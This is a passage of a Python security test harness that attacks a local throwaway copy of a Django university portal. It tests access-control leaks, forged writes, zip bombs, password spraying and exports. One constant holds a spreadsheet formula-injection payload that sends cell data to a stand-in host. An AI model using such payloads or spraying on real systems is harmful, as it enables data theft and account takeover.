"""`make attack`: the security issue's attack, re-run against the running portal (docs/security.md).

    .venv/bin/python bench/attack.py              # the whole attack (5 to 8 minutes on 2 cores)
    .venv/bin/python bench/attack.py --keep       # keep the temporary folder (database, gunicorn's log) afterwards
    .venv/bin/python bench/attack.py --sample 2   # fewer objects per URL and side (quicker, less thorough)
    .venv/bin/python bench/attack.py --skip admin,spray   # leave phases out (while working on the harness)

What it does, in order:

1. a throwaway SQLite database in a temporary folder: migrate, static files collected, `seed_plans`, `seed_demo`;
   then, straight in the database: the personas the demo lacks (苏州大学's secretary, liaison, leader and reviewer),
   a TOTP device for the administrator, 50 throwaway accounts for the password spraying, and a private marker in
   the text of every record (`〔V12〕` after volunteer 12's name, phone numbers 139 + the id; `plant_markers`);
2. gunicorn with the deployment's ./gunicorn.conf.py (2 sync workers) on a free loopback port, production profile
   (DJANGO_DEBUG=false, collected static files, two-step sign-in required of administrators); only https is
   switched off (plain http on 127.0.0.1, as `make bench` does);
3. every persona signs in through the sign-in page like a browser (CSRF token from the form; the administrator
   then types the code his authenticator shows, computed with django_otp from his device);
4. records made through the portal's own forms: formula-like text (for the exports), and what the demo has only
   for 中国矿业大学 or not at all (苏州大学's round, assessment and review; a snapshot, a standard and a roster import
   waiting for confirmation on each side);
5. the attack: calibration (the administrator opens every object page, so a 404 elsewhere means something),
   cross-institution and cross-college reads of every URL of the portal and of the admin site, wrong methods,
   forged writes with the other side's ids (the database fingerprinted after each), bad inputs (zip bombs, ids
   too long, dates of year 1, hostile evidence), every xlsx export read back with openpyxl, password spraying,
   the sign-in rate from a second loopback address, and `check --deploy`;
6. a table of counts and timings; the exit status is 1 if any check failed, and every failure is printed with
   its URL, persona, request and response.

The database is the harness's own: nothing under var/ is touched. gunicorn is stopped and the folder removed
in every case (unless --keep).
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import http.client
import io
import os
import re
import shutil
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zipfile
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode, urljoin, urlsplit

import requests

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
HOST = "127.0.0.1"
SECOND_ADDRESS = "127.0.0.2"  # the rate-limit check signs in from another loopback address
HUGE_ID = "99999999999999999999"  # 20 digits: more than a 64-bit id holds
SENTINEL_ID = 987654321987654321
HOSTILE_TEXTS = ('=HYPERLINK("http://evil.example/?x="&A2,"点我查看")', "+1+1", "@SUM(A1)")
ANCIENT_DAY = "0001-01-01"
PLAUSIBLE_DAY = "2024-05-10"
CLIENT_THREADS = 3  # two gunicorn workers, and one request in flight while the client reads the last answer
SPRAY_USERS = 50
SPRAY_TRIES = 4
BOMB_SECONDS = 2.0
PHASE_TIMES = "seconds per phase"
# A minimal valid one-page PDF: evidence that passes the upload's content check.
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def say(message: str = "") -> None:
    print(message, flush=True)


# --- What was found ------------------------------------------------------------------------------------------


@dataclass
class Finding:
    """One check that did not hold: what was asked, by whom, and what came back."""

    category: str
    persona: str
    method: str
    url: str
    what: str
    status: int | None = None
    request: str = ""
    response: str = ""

    def render(self) -> str:
        lines = [f"[{self.category}] {self.what}", f"  persona: {self.persona}",
                 f"  request: {self.method} {self.url}" + (f"  data: {self.request}" if self.request else "")]
        if self.status is not None:
            lines.append(f"  response: {self.status} {self.response}")
        return "\n".join(lines)


@dataclass
class Tally:
    """Counts and timings of one category of the attack."""

    name: str
    counts: Counter = field(default_factory=Counter)
    seconds: float = 0.0
    latencies: list[float] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)


class Results:
    def __init__(self) -> None:
        self.tallies: dict[str, Tally] = {}
        self.findings: list[Finding] = []
        self.lock = threading.Lock()

    def tally(self, name: str) -> Tally:
        with self.lock:
            return self.tallies.setdefault(name, Tally(name))

    def count(self, name: str, key: str, n: int = 1) -> None:
        with self.lock:
            self.tallies.setdefault(name, Tally(name)).counts[key] += n

    def fail(self, finding: Finding) -> None:
        with self.lock:
            self.findings.append(finding)
            self.tallies.setdefault(finding.category, Tally(finding.category)).counts["failed"] += 1

    def note(self, name: str, text: str) -> None:
        with self.lock:
            self.tallies.setdefault(name, Tally(name)).notes.append(text)


RESULTS = Results()


@contextlib.contextmanager
def timed(category: str) -> Iterator[None]:
    started = time.perf_counter()
    try:
        yield
    finally:
        RESULTS.tally(category).seconds += time.perf_counter() - started


# --- The database and the server -----------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind((HOST, 0))
        return probe.getsockname()[1]


def portal_environment(folder: Path, port: int) -> dict[str, str]:
    """The production profile on a throwaway database: what gunicorn and this script's own Django both read."""
    env = {name: value for name, value in os.environ.items()
           if not name.startswith(("DJANGO_", "SIGNIN_", "GUNICORN_", "OTP_", "SESSION_", "CAS_", "EVIDENCE_"))
           and name not in ("DATABASE_URL", "EMAIL_URL", "DASHBOARD_CACHE_SECONDS", "CACHE_URL")}
    env.update({
        "DJANGO_SETTINGS_MODULE": "youthwork.settings",
        "DJANGO_DEBUG": "false",
        "DJANGO_SECRET_KEY": "attack-only-not-a-secret-" + hashlib.sha256(str(folder).encode()).hexdigest(),
        "DJANGO_ALLOWED_HOSTS": f"{HOST},localhost",
        "DATABASE_URL": f"sqlite:///{folder / 'db.sqlite3'}",
        "DJANGO_STATIC_ROOT": str(folder / "static"),
        "DJANGO_MEDIA_ROOT": str(folder / "media"),
        # The production default (a file cache under var/, which every worker shares), in the temporary folder.
        "CACHE_URL": f"filecache://{folder / 'cache'}",
        # Plain http on loopback (no TLS here): no redirect to https, cookies not marked Secure. Everything else is
        # the production profile: DEBUG off, collected static files, CSP, HSTS header, two-step sign-in required.
        "DJANGO_SECURE_SSL_REDIRECT": "false",
        "DJANGO_SECURE_COOKIES": "false",
        "OTP_ADMIN_REQUIRED": "true",
        "EMAIL_URL": "dummymail://",  # reminders sent by a forged write would go nowhere (and are counted)
        "GUNICORN_BIND": f"{HOST}:{port}",
        "GUNICORN_WORKERS": str(WORKERS),
        "GUNICORN_ACCESS_LOG": "off",
        "GUNICORN_LOG_LEVEL": "warning",
        "PYTHONUNBUFFERED": "1",
    })
    return env


class Gunicorn:
    """gunicorn with the deployment's ./gunicorn.conf.py (sync workers), its output in the temporary folder."""

    def __init__(self, env: dict[str, str], folder: Path, port: int) -> None:
        self.env, self.folder, self.port = env, folder, port
        self.log_path = folder / "gunicorn.log"
        self.process: subprocess.Popen | None = None

    def start(self) -> None:
        self.log = open(self.log_path, "w")  # noqa: SIM115 - closed in stop()
        self.process = subprocess.Popen(
            [str(Path(sys.executable).parent / "gunicorn"), "--config", str(ROOT / "gunicorn.conf.py")],
            cwd=ROOT, env=self.env, stdout=self.log, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise SystemExit(f"attack: gunicorn stopped at start:\n{self.log_tail()}")
            with socket.socket() as probe:
                if probe.connect_ex((HOST, self.port)) == 0:
                    return
            time.sleep(0.2)
        raise SystemExit("attack: gunicorn did not start within 60 s")

    def log_tail(self, lines: int = 40) -> str:
        with contextlib.suppress(OSError):
            return "\n".join(self.log_path.read_text(errors="replace").splitlines()[-lines:])
        return ""

    def server_errors(self) -> list[str]:
        """The requests Django logged as "Internal Server Error" (each a 500), with the exception that followed."""
        with contextlib.suppress(OSError):
            lines = self.log_path.read_text(errors="replace").splitlines()
            found = []
            for index, line in enumerate(lines):
                if "Internal Server Error:" in line:
                    exception = next((later for later in lines[index + 1:index + 80]
                                      if re.match(r"^[\w.]+(Error|Exception)\b", later)), "")
                    found.append(line.split("Internal Server Error:", 1)[1].strip() + " " + exception)
            return found
        return []

    def stop(self) -> None:
        if self.process is None:
            return
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=10)
        self.log.close()
        self.process = None


def build_database() -> dict[str, float]:
    """Migrate, collect static files, load the seed plans and the demo (in this process, on DATABASE_URL)."""
    from django.core.management import call_command

    times = {}
    for name, args, options in (("migrate", (), {"interactive": False}),
                                ("collectstatic", (), {"interactive": False}),
                                ("seed_plans", (), {}), ("seed_demo", (), {"force": True})):
        started = time.perf_counter()
        call_command(name, *args, verbosity=0, stdout=io.StringIO(), **options)
        times[name] = time.perf_counter() - started
    return times


# --- Personas ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Persona:
    username: str
    role: str
    institution: int | None
    unit: int | None
    side: str  # the institution's code ("" for the administrator)

    @property
    def label(self) -> str:
        return f"{self.username} ({self.role}, {self.side or 'all'})"


# The demo's accounts, and the ones the harness adds so that both universities have every role.
EXTRA_PERSONAS = [("suda_secretary", "secretary"), ("suda_liaison", "liaison"), ("suda_leader", "leader"),
                  ("suda_reviewer", "reviewer")]


def prepare_people(password: str) -> tuple[list[Persona], list[str]]:
    """The personas (demo accounts plus 苏州大学's missing roles), the administrator's TOTP device, and the throwaway
    accounts for the spraying. One password hash is computed and given to all (PBKDF2 is slow on purpose)."""
    from django.contrib.auth import get_user_model
    from django.contrib.auth.hashers import make_password
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from tracker.demo import ACCOUNTS
    from tracker.org.models import Institution, OrgUnit, Profile
    from tracker.org.services import profile_assign_role

    User = get_user_model()
    hashed = make_password(password)
    suda = Institution.objects.get(code="suda")
    units = {
        "secretary": OrgUnit.objects.filter(institution=suda, kind=OrgUnit.Kind.COLLEGE).order_by("order").first(),
        "liaison": OrgUnit.objects.filter(institution=suda, kind=OrgUnit.Kind.MEMBER_UNIT).order_by("order").first(),
    }
    for username, role in EXTRA_PERSONAS:
        user, _created = User.objects.get_or_create(username=username, defaults={"first_name": f"苏大{role}"})
        user.password = hashed
        user.save()
        profile_assign_role(user=user, role=role, institution=suda, unit=units.get(role))
    admin = User.objects.get(username="admin")
    TOTPDevice.objects.filter(user=admin).delete()
    TOTPDevice.objects.create(user=admin, name="portal", confirmed=True)
    spray = [f"spray{n:02d}" for n in range(1, SPRAY_USERS + 1)]
    User.objects.bulk_create([User(username=name, first_name="喷洒", password=hashed) for name in spray])
    names = [account.username for account in ACCOUNTS] + [username for username, _role in EXTRA_PERSONAS]
    personas = []
    for profile in Profile.objects.filter(user__username__in=names).select_related("user", "institution"):
        personas.append(Persona(profile.user.username, profile.role, profile.institution_id, profile.unit_id,
                                profile.institution.code if profile.institution else ""))
    personas.sort(key=lambda p: (p.side, names.index(p.username)))
    return personas, spray


def totp_code(username: str) -> str:
    """The code the user's authenticator app shows now (django_otp's own TOTP, from the device in the database)."""
    from django_otp.oath import TOTP
    from django_otp.plugins.otp_totp.models import TOTPDevice

    device = TOTPDevice.objects.get(user__username=username, confirmed=True)
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    totp.time = time.time()
    return f"{totp.token():0{device.digits}d}"


# --- Private markers -----------------------------------------------------------------------------------------
# Every record whose text a page may show gets a marker that names it: 〔V12〕 after volunteer 12's name, 〔A7〕
# after ledger entry 7's title, …, and every volunteer a phone number 139 + its id in 8 digits. A page's markers
# are found with one regular expression and looked up: whose they are (institution, unit) says whether the
# persona may see them.

MARKER = re.compile(r"〔([IUVAPNRTXK])(\d+)〕|(?<!\d)139(\d{8})(?!\d)")
UNIT_PRIVATE = frozenset("VANRX")  # a secretary or liaison sees only her own unit's: people, ledger, menus, rectif.
MARKED_FIELDS = [  # (kind, model path, field)
    ("I", "tracker.Institution", "name"),
    ("U", "tracker.OrgUnit", "name"),
    ("V", "tracker.Volunteer", "name"),
    ("A", "tracker.Activity", "title"),
    ("P", "tracker.WorkPlatform", "name"),
    ("N", "tracker.NeedItem", "title"),
    ("R", "tracker.ResourceItem", "title"),
    ("T", "tracker.Team", "name"),
    ("X", "tracker.Rectification", "problem"),
    ("K", "tracker.Task", "title"),
]


def plant_markers() -> None:
    from django.apps import apps
    from django.db.models import CharField, F, Value
    from django.db.models.functions import Cast, Concat, LPad

    for kind, label, name in MARKED_FIELDS:
        model = apps.get_model(label)
        model._default_manager.update(**{name: Concat(F(name), Value(f"〔{kind}"), Cast("pk", CharField()),
                                                      Value("〕"), output_field=CharField())})
    apps.get_model("tracker.Volunteer")._default_manager.update(
        phone=Concat(Value("139"), LPad(Cast("pk", CharField()), 8, Value("0")), output_field=CharField()))


Owner = tuple[int | None, int | None]  # (institution pk, unit pk)


def marker_owners() -> dict[str, dict[int, Owner]]:
    """kind → pk → (institution, unit) of the record the marker names ("phone" for the phone numbers)."""
    from tracker import models as m

    def rows(queryset, institution: str, unit: str | None) -> dict[int, Owner]:
        fields = ["pk", institution] + ([unit] if unit else [])
        return {row[0]: (row[1], row[2] if unit else None) for row in queryset.values_list(*fields)}

    owners = {
        "I": {pk: (pk, None) for pk in m.Institution.objects.values_list("pk", flat=True)},
        "U": rows(m.OrgUnit.objects, "institution_id", "pk"),
        "V": rows(m.Volunteer.objects, "institution_id", "unit_id"),
        "A": rows(m.Activity.objects, "unit__institution_id", "unit_id"),
        "P": rows(m.WorkPlatform.objects, "institution_id", None),
        "N": rows(m.NeedItem.objects, "unit__institution_id", "unit_id"),
        "R": rows(m.ResourceItem.objects, "volunteer__institution_id", "volunteer__unit_id"),
        "T": rows(m.Team.objects, "institution_id", None),
        "X": rows(m.Rectification.objects, "institution_id", "unit_id"),
        "K": rows(m.Task.objects, "stage__phase__plan__institution_id", None),
    }
    owners["phone"] = owners["V"]
    return owners


def forbidden(persona: Persona, kind: str, owner: Owner) -> bool:
    """Whether the persona may not see a marker of this kind of this owner (access.py's rules, restated)."""
    institution, unit = owner
    if persona.role == "admin" or institution is None:
        return False
    if institution != persona.institution:
        return True
    if persona.role == "reviewer":
        return kind in UNIT_PRIVATE or kind == "phone"
    if kind == "phone" and persona.role == "leader":
        return True
    if persona.role in ("secretary", "liaison") and (kind in UNIT_PRIVATE or kind == "phone"):
        return kind != "U" and unit != persona.unit
    return False


class Scanner:
    def __init__(self) -> None:
        self.owners = marker_owners()

    def refresh(self) -> None:
        self.owners = marker_owners()

    def leaks(self, persona: Persona, text: str) -> list[str]:
        found = []
        for match in MARKER.finditer(text):
            if match.group(3) is not None:
                kind, pk = "phone", int(match.group(3))
            else:
                kind, pk = match.group(1), int(match.group(2))
            owner = self.owners.get(kind, {}).get(pk)
            if owner is not None and forbidden(persona, kind, owner):
                found.append(match.group(0))
        return sorted(set(found))


def body_text(response: requests.Response) -> str:
    """What a person could read in the answer: the page, or the text inside an xlsx / docx download."""
    content = response.content
    if content[:2] == b"PK":
        with contextlib.suppress(zipfile.BadZipFile):
            archive = zipfile.ZipFile(io.BytesIO(content))
            return "\n".join(archive.read(info).decode("utf-8", "replace") for info in archive.infolist()
                             if info.filename.endswith(".xml"))
    return content.decode("utf-8", "replace")


# --- A browser -----------------------------------------------------------------------------------------------


class Browser:
    """One persona's cookies and CSRF token, over `requests` (redirects are not followed: each answer is judged)."""

    def __init__(self, base: str, persona: Persona) -> None:
        self.base, self.persona = base, persona
        self.cookies: dict[str, str] = {}
        self.lock = threading.Lock()

    @property
    def csrf(self) -> str:
        return self.cookies.get("csrftoken", "")

    def request(self, method: str, path: str, data=None, files=None, headers: dict | None = None,
                csrf: bool = True, category: str | None = None) -> requests.Response:
        headers = dict(headers or {})
        with self.lock:
            cookies = dict(self.cookies)
        if csrf and method not in ("GET", "HEAD") and cookies.get("csrftoken"):
            headers["X-CSRFToken"] = cookies["csrftoken"]
        started = time.perf_counter()
        response = requests.request(method, self.base + path, data=data, files=files, cookies=cookies,
                                    headers=headers, allow_redirects=False, timeout=120)
        elapsed = time.perf_counter() - started
        if category:
            with RESULTS.lock:
                RESULTS.tallies.setdefault(category, Tally(category)).latencies.append(elapsed)
        with self.lock:
            for cookie in response.cookies:
                self.cookies[cookie.name] = cookie.value
        response.elapsed_seconds = elapsed
        return response

    def get(self, path: str, **kwargs) -> requests.Response:
        return self.request("GET", path, **kwargs)

    def post(self, path: str, data=None, files=None, **kwargs) -> requests.Response:
        data = list(data.items()) if isinstance(data, dict) else list(data or [])
        data = [(k, v) for k, v in data if k != "csrfmiddlewaretoken"] + [("csrfmiddlewaretoken", self.csrf)]
        return self.request("POST", path, data=data, files=files, **kwargs)


def describe(response: requests.Response) -> str:
    """A short account of an answer for a finding: where it redirects, or the start of its text."""
    if response.is_redirect:
        return f"→ {response.headers.get('Location')}"
    html = body_text(response)
    errors = re.findall(r'class="error"[^>]*>(.*?)</(?:p|li|td)>', html, re.S)
    errors += re.findall(r'<td class="import-column">(.*?)</td><td>(.*?)</td>', html, re.S)
    main = html.split('id="main"', 1)[-1] if 'id="main"' in html else html
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", main)).strip()
    if errors:
        shown = "; ".join(" ".join(e) if isinstance(e, tuple) else e for e in errors[:6])
        return "errors: " + re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", shown))[:400]
    return text[:300]


def context_of(text: str, needle: str, width: int = 160) -> str:
    """The markup around the first place `needle` appears (for a finding: where on the page it is)."""
    at = text.find(needle)
    if at < 0:
        return ""
    return re.sub(r"\s+", " ", text[max(0, at - width):at + len(needle) + width // 2])


def sign_in(browser: Browser, password: str) -> float:
    """The sign-in page like a browser: its form's CSRF token, the password, then (if owed) the code page."""
    started = time.perf_counter()
    name = browser.persona.username
    page = browser.get("/accounts/login/")
    if page.status_code != 200 or not browser.csrf:
        raise SystemExit(f"attack: the sign-in page answered {page.status_code} without a CSRF cookie")
    answer = browser.post("/accounts/login/", {"username": name, "password": password, "next": ""})
    if answer.status_code != 302:
        raise SystemExit(f"attack: {name} could not sign in: {answer.status_code} {describe(answer)}")
    home = browser.get("/")
    if browser.persona.role == "admin":
        location = home.headers.get("Location", "")
        if home.status_code != 302 or "/accounts/two-step/" not in location:
            raise SystemExit(f"attack: the administrator was not asked for a code: {home.status_code} {location}")
        code_page = browser.get(urlsplit(location).path + "?" + urlsplit(location).query)
        if code_page.status_code != 200:
            raise SystemExit(f"attack: the code page answered {code_page.status_code}")
        # Without the code nothing opens, the admin site included.
        for path in ("/", "/admin/", "/roster/"):
            refused = browser.get(path)
            if refused.status_code != 302 or "/accounts/two-step/" not in refused.headers.get("Location", ""):
                RESULTS.fail(Finding("sign-in", browser.persona.label, "GET", path,
                                     "a page opened before the second factor", refused.status_code,
                                     response=describe(refused)))
        answer = browser.post(urlsplit(location).path, {"code": totp_code(name), "next": "/"})
        if answer.status_code != 302:
            raise SystemExit(f"attack: the administrator's code was refused: {describe(answer)}")
        home = browser.get("/")
        if browser.get("/admin/").status_code != 200:
            raise SystemExit("attack: the administrator does not reach the admin site after the code")
    signed_out = home.status_code == 302 and "/accounts/" in home.headers.get("Location", "")
    if home.status_code not in (200, 302) or signed_out:  # a reviewer's home is his review list
        raise SystemExit(f"attack: {name}'s home page answered {home.status_code} {describe(home)}")
    return time.perf_counter() - started


# --- Forms, read from the pages as a browser reads them ------------------------------------------------------


@dataclass
class Control:
    tag: str  # input, select, textarea, button
    name: str
    type: str = "text"
    value: str = ""
    checked: bool = False
    required: bool = False
    disabled: bool = False
    multiple: bool = False
    options: list[tuple[str, bool]] = field(default_factory=list)  # (value, selected)


@dataclass
class Form:
    action: str
    method: str
    enctype: str
    controls: list[Control] = field(default_factory=list)

    def submits(self) -> list[Control]:
        return [c for c in self.controls if c.tag in ("button", "input") and c.type == "submit" and c.name]


class FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self.form: Form | None = None
        self.select: Control | None = None
        self.option: list | None = None
        self.textarea: Control | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {key: (value if value is not None else "") for key, value in attrs}
        if tag == "form":
            self.form = Form(a.get("action", ""), a.get("method", "get").lower(),
                             a.get("enctype", "application/x-www-form-urlencoded"))
            self.forms.append(self.form)
            return
        if self.form is None:
            return
        common = {"required": "required" in a, "disabled": "disabled" in a}
        if tag == "input" and a.get("name"):
            self.form.controls.append(Control("input", a["name"], a.get("type", "text").lower(), a.get("value", ""),
                                              checked="checked" in a, **common))
        elif tag == "button":
            self.form.controls.append(Control("button", a.get("name", ""), a.get("type", "submit").lower(),
                                              a.get("value", ""), **common))
        elif tag == "select" and a.get("name"):
            self.select = Control("select", a["name"], "select", multiple="multiple" in a, **common)
            self.form.controls.append(self.select)
        elif tag == "option" and self.select is not None:
            self.option = [a.get("value"), "selected" in a, ""]
            self.select.options.append((a.get("value") or "", "selected" in a))
            if a.get("value") is None:
                self.select.options[-1] = ("\0text", "selected" in a)  # value is the text: filled at </option>
        elif tag == "textarea" and a.get("name"):
            self.textarea = Control("textarea", a["name"], "textarea", **common)
            self.form.controls.append(self.textarea)

    def handle_data(self, data: str) -> None:
        if self.textarea is not None:
            self.textarea.value += data
        if self.option is not None:
            self.option[2] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.form = None
        elif tag == "select":
            self.select = None
        elif tag == "option" and self.option is not None and self.select is not None:
            value, selected = self.select.options[-1]
            if value == "\0text":
                self.select.options[-1] = (self.option[2].strip(), selected)
            self.option = None
        elif tag == "textarea":
            self.textarea = None


def forms_of(html: str, page: str) -> list[Form]:
    """The page's forms, each with its action made absolute (a form without one posts to the page itself)."""
    parser = FormParser()
    parser.feed(html)
    for form in parser.forms:
        form.action = urlsplit(urljoin(page, form.action or page)).path
    return parser.forms


TYPED = iter(range(1, 10**9))  # numbers for the text typed: every post its own staff number, name …


def plausible(control: Control) -> str:
    """What a person would type into an empty required field (text unique to each post)."""
    if control.type == "date":
        return PLAUSIBLE_DAY
    if control.type == "number":
        return "1"
    if control.type == "email":
        return "attack@example.edu.cn"
    if control.type == "url":
        return "https://example.edu.cn/"
    return f"攻击测试{next(TYPED)}"


def form_data(form: Form, submit: Control | None = None, *, fill: bool = True,
              files: bool = True) -> tuple[list[tuple[str, str]], list[tuple[str, tuple[str, bytes, str]]]]:
    """The fields a browser would send (the chosen submit button included), empty required fields filled with
    plausible values, every file field given a small valid PDF."""
    data: list[tuple[str, str]] = []
    uploads: list[tuple[str, tuple[str, bytes, str]]] = []
    radios_done: set[str] = set()
    radios = [c for c in form.controls if c.type == "radio"]
    for control in form.controls:
        if control.disabled or not control.name:
            continue
        if control.tag in ("button",) or control.type in ("submit", "image", "reset", "button"):
            continue
        if control.type == "file":
            if files:
                uploads.append((control.name, ("佐证.pdf", PDF, "application/pdf")))
            continue
        if control.type == "checkbox":
            if control.checked:
                data.append((control.name, control.value or "on"))
            continue
        if control.type == "radio":
            if control.name in radios_done:
                continue
            group = [c for c in radios if c.name == control.name]
            chosen = next((c for c in group if c.checked), group[0])
            data.append((control.name, chosen.value or "on"))
            radios_done.add(control.name)
            continue
        if control.tag == "select":
            chosen = [value for value, selected in control.options if selected]
            if not chosen and control.options and not control.multiple:
                chosen = [control.options[0][0]]
                if fill and not chosen[0]:
                    chosen = [next((v for v, _s in control.options if v), "")]
            data.extend((control.name, value) for value in chosen)
            continue
        value = control.value
        if control.tag == "textarea":
            value = value.lstrip("\n")
        if fill and not value and control.required:
            value = plausible(control)
        data.append((control.name, value))
    if submit is not None:
        data.append((submit.name, submit.value))
    return data, uploads


def variants(form: Form) -> list[Control | None]:
    """One post per named submit button (a form with several buttons does several things), else one."""
    return form.submits() or [None]


def with_value(data: list[tuple[str, str]], name: str, values: list[str]) -> list[tuple[str, str]]:
    return [(k, v) for k, v in data if k != name] + [(name, value) for value in values]


def show_data(data: list[tuple[str, str]], uploads=()) -> str:
    shown = [f"{k}={v[:40]}" for k, v in data if k != "csrfmiddlewaretoken"]
    shown += [f"{name}=<file {len(content):,} bytes>" for name, (_n, content, _t) in uploads]
    return "&".join(shown)[:400]


# --- The database's fingerprint --------------------------------------------------------------------------------

NOISE_TABLES = ("django_session", "axes_", "django_admin_log", "tracker_historical", "otp_")
NOISE_COLUMNS = {"auth_user": ("last_login",)}


class Fingerprint:
    """A hash of every table's rows, read straight from the SQLite file: sessions, sign-in records, the admin's
    log, history rows and second-factor devices left out (they change on every sign-in, or follow a real change)."""

    def __init__(self, path: Path) -> None:
        self.connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, check_same_thread=False)
        self.lock = threading.Lock()
        tables = [row[0] for row in self.connection.execute(
            "SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%' ORDER BY name")]
        self.tables = [t for t in tables if not t.startswith(NOISE_TABLES)]
        self.columns = {t: [row[1] for row in self.connection.execute(f'PRAGMA table_info("{t}")')
                            if row[1] not in NOISE_COLUMNS.get(t, ())] for t in self.tables}
        self.version: int | None = None
        self.last: dict | None = None

    def take(self) -> dict[str, tuple[int, int, str]]:
        """table → (rows, largest rowid, hash of the rows). SQLite's data_version says whether anyone committed
        since the last look: if no one did, the last fingerprint still holds (most forged writes commit nothing)."""
        with self.lock:
            version = self.connection.execute("PRAGMA data_version").fetchone()[0]
            if version == self.version and self.last is not None:
                return self.last
            prints = {}
            for table in self.tables:
                columns = ", ".join(f'"{c}"' for c in self.columns[table])
                rows = self.connection.execute(f'SELECT rowid, {columns} FROM "{table}" ORDER BY rowid').fetchall()
                prints[table] = (len(rows), rows[-1][0] if rows else 0, hashlib.sha1(repr(rows).encode()).hexdigest())
            self.version, self.last = version, prints
            return prints

    @staticmethod
    def changes(before: dict, after: dict) -> list[str]:
        return [f"{table} ({before[table][0]} → {after[table][0]} rows)"
                for table in before if before[table] != after.get(table)]


# --- What the URLs name: the objects of each side, from the URLconf ------------------------------------------


@dataclass(frozen=True)
class Target:
    name: str  # URL name without the namespace
    args: tuple
    institution: int
    unit: int | None  # the unit the object is private to (for secretaries and liaisons), None if institution-wide
    host: int | None = None  # a platform's host unit (its liaison may edit it)

    @property
    def path(self) -> str:
        from django.urls import reverse

        return reverse(f"tracker:{self.name}", args=self.args)


def tracker_patterns() -> list:
    from django.urls import get_resolver

    for resolver in get_resolver().url_patterns:
        if getattr(resolver, "namespace", None) == "tracker":
            return list(resolver.url_patterns)
    raise SystemExit("attack: no tracker URLconf")


def object_sources() -> dict[str, Callable[[], list[Target]]]:
    """URL name → every object of the demo that URL is for, with its owner: tests/test_crawl.py's map, owners added.
    A URL pattern that names an object and has no entry here stops the run (a new page must be attacked too)."""
    from tracker import models as m

    def targets(name: str, queryset, institution: str, unit: str | None = None, args: Callable | None = None,
                host: str | None = None):
        fields = ["pk", institution] + ([unit] if unit else []) + ([host] if host else [])
        if args:
            queryset = queryset.select_related()

        def build() -> list[Target]:
            found = []
            for obj in queryset.order_by("pk"):
                values = {f: _path_value(obj, f) for f in fields}
                if values[institution] is None:
                    continue  # shared (a standard for every institution): not the other side's
                found.append(Target(name, args(obj) if args else (obj.pk,), values[institution],
                                    values[unit] if unit else None, values[host] if host else None))
            return found
        return build

    task_inst = "stage__phase__plan__institution_id"
    pairs = {
        "plan-detail": (m.Plan.objects, "institution_id", None),
        "plan-export": (m.Plan.objects, "institution_id", None),
        "task-detail": (m.Task.objects, task_inst, None),
        "task-update-create": (m.Task.objects, task_inst, None),
        "volunteer-detail": (m.Volunteer.objects, "institution_id", "unit_id"),
        "volunteer-update": (m.Volunteer.objects, "institution_id", "unit_id"),
        "roster-import-confirm": (m.RosterImport.objects, "institution_id", "unit_id"),
        "team-detail": (m.Team.objects, "institution_id", None),
        "team-membership-add": (m.Team.objects, "institution_id", None),
        "platform-detail": (m.WorkPlatform.objects, "institution_id", None),
        "activity-detail": (m.Activity.objects, "unit__institution_id", "unit_id"),
        "activity-update": (m.Activity.objects, "unit__institution_id", "unit_id"),
        "match-detail": (m.MenuMatch.objects, "need__unit__institution_id", "need__unit_id"),
        "match-advance": (m.MenuMatch.objects, "need__unit__institution_id", "need__unit_id"),
        "quota-detail": (m.Quota.objects, "institution_id", None),
        "quota-entry-create": (m.Quota.objects, "institution_id", None),
        "standard-detail": (m.Standard.objects, "institution_id", None),
        "standard-export": (m.Standard.objects, "institution_id", None),
        "round-board": (m.AssessmentRound.objects, "institution_id", None),
        "round-remind": (m.AssessmentRound.objects, "institution_id", None),
        "assessment-start": (m.AssessmentRound.objects, "institution_id", None),
        "assessment-detail": (m.Assessment.objects, "round__institution_id", "unit_id"),
        "assessment-report": (m.Assessment.objects, "round__institution_id", "unit_id"),
        "assessment-transition": (m.Assessment.objects, "round__institution_id", "unit_id"),
        "rectification-detail": (m.Rectification.objects, "institution_id", "unit_id"),
        "rectification-advance": (m.Rectification.objects, "institution_id", "unit_id"),
        "rectification-reassign": (m.Rectification.objects, "institution_id", "unit_id"),
        "review-detail": (m.Review.objects, "institution_id", None),
        "review-opinion-create": (m.Review.objects, "institution_id", None),
        "dashboard-college": (m.OrgUnit.objects.filter(kind=m.OrgUnit.Kind.COLLEGE), "institution_id", "pk"),
        "snapshot-detail": (m.ReportSnapshot.objects, "institution_id", None),
        "snapshot-export": (m.ReportSnapshot.objects, "institution_id", None),
    }
    # Set-up (tracker/setup): a university's units and accounts, kept by its committee staff.
    units = m.OrgUnit.objects.exclude(kind__in=m.OrgUnit.OUTSIDE_KINDS)
    from django.contrib.auth import get_user_model

